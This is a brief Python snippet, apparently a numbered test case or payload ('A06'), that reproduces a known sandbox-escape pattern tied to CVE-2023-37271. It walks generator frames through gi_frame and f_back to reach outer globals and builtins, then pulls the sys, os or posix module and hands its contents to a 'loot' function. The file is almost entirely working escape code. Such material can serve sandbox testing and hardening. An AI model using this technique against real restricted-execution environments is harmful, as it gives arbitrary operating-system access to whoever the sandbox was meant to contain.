# A06: generator frame walk (CVE-2023-37271 pattern):
# g.gi_frame.f_back.f_back.f_globals.
def handle(request):
    q = (q.gi_frame.f_back.f_back for _ in [1])  # GATE
    frame = [x for x in q][0]
    out = []
    while frame is not None:
        g = frame.f_globals
        out.append(str(sorted(g)))
        for name in ('sys', 'os', 'posix'):
            if name in g:
                m = g[name]
                if name == 'sys':
                    m = m.modules['posix']
                return loot(m.__dict__, out)
        imp = frame.f_builtins.get('__import__')
        if imp is not None:
            m = imp('posix')
            if m is not None:
                return loot(m.__dict__, out)
        frame = frame.f_back
    return out
